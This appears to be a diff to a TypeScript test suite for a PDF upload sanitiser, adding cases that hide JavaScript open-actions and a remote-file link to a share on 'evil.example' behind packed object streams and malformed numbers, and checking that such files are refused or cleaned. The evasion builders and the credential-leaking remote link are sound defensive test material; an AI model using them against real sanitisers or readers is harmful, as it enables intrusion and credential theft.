@@ -125,6 +125,28 @@ const hostile: Record<string, () => Buffer | Promise<Buffer>> = {
   'a script in an earlier version': changedLater,
 }
 
+/** Numbers that other programs read, and this parser does not. */
+const badNumbers = ['--5', '1-2-3']
+
+/** Objects from number 7 on, packed in a stream that is found by its place in the file. The last one opens the file. */
+function packedApart(objects: string[], type: string): Buffer {
+  const before = aPage({ catalog: `/OpenAction ${6 + objects.length} 0 R` })
+  const offsets = objects.map((_, index) => objects.slice(0, index).join(' ').length + Math.min(index, 1))
+  const list = objects.map((_, index) => `${7 + index} ${offsets[index]}`).join(' ')
+  const body = `${list} ${objects.join(' ')}`
+  const stream = 7 + objects.length
+  const place = before.length
+  const packed = `${stream} 0 obj\n<< ${type} /N ${objects.length} /First ${list.length + 1} /Length ${body.length} >>\nstream\n${body}\nendstream\nendobj\n`
+  const entries = objects.map((_, index) => [2, stream, index])
+  const rows = [...entries, [1, place, 0], [1, place + packed.length, 0]].map(
+    ([kind = 0, at = 0, index = 0]) => Buffer.from([kind, at >> 16, (at >> 8) & 0xff, at & 0xff, index]),
+  )
+  const table = Buffer.concat(rows)
+  const head = `${stream + 1} 0 obj\n<< /Type /XRef /Size ${stream + 2} /Index [7 ${rows.length}] /W [1 3 1] /Root 1 0 R /Prev ${before.lastIndexOf('xref\n0')} /Length ${table.length} >>\nstream\n`
+  const tail = `\nendstream\nendobj\nstartxref\n${place + packed.length}\n%%EOF\n`
+  return Buffer.concat([before, Buffer.from(packed + head), table, Buffer.from(tail)])
+}
+
 /** Everything in a file, unpacked where it is packed. */
 function everything(content: Buffer): string {
   const text = content.toString('latin1')
@@ -163,6 +185,36 @@ describe('a PDF loses, and shows the same without it,', () => {
     const { kept } = await sender.send(kind, aPage({ catalog: `/OpenAction << ${js} >>` }), 'File.pdf')
     expect(await actionsOf(kept)).toEqual([])
   })
+})
+
+describe('a PDF that needs an object which only other programs can read', () => {
+  const toShare = '/S /GoToR /F (\\\\\\\\evil.example\\\\share\\\\a.pdf) /D [0 /Fit]'
+  const made: Record<string, (bad: string) => Buffer> = {
+    'a script on opening': (bad) => aPage({ catalog: '/OpenAction 7 0 R', more: [`<< ${js} /X ${bad} >>`] }),
+    'a file on a server': (bad) => aPage({ annotation: `/X ${bad} /A << ${toShare} >>` }),
+    'a file behind a word that ends objects': (bad) =>
+      aPage({ annotation: `/X ${bad} /Contents (endobj) /A << ${toShare} >>` }),
+    'a packed script': (bad) => packedApart([`<< ${js} /X ${bad} >>`], '/Type /ObjStm'),
+    'a script packed behind a bad number': (bad) => packedApart([bad, `<< ${js} >>`], '/Type /ObjStm'),
+    'no action, but words of the page': (bad) => aPage({ stream: `/X ${bad}` }),
+  }
+  const cases = Object.entries(made).flatMap(([what, make]) => badNumbers.map((bad) => ({ what, bad, make })))
+  test.each(cases)('is refused: $what with $bad', async ({ make, bad }) => {
+    const refusal = await sender.send('cv', make(bad), 'CV.pdf').catch((error: Error) => error)
+    expect(String(refusal)).toMatch(/holds a program, or opens other files|is damaged or incomplete/)
+  })
+
+  test('is written without it, where it is packed in a stream without a type', async () => {
+    const { kept } = await sender.send('cv', packedApart([`<< ${js} >>`], ''), 'CV.pdf')
+    expect(await textOfPdf(kept)).toEqual([words])
+    expect(await actionsOf(kept)).toEqual([])
+    expect(everything(kept).replaceAll(words, '')).not.toMatch(activeWords)
+  })
+})
+
+test('a PDF with a list longer than the arguments of a call is taken', async () => {
+  const content = aPage({ catalog: '/Numbers 7 0 R', more: [`[${'0 '.repeat(200_000)}]`] })
+  expect((await sender.send('cv', content, 'CV.pdf')).kept.equals(content)).toBe(true)
 })
 
 describe('a PDF stays byte for byte as it was sent', () => {
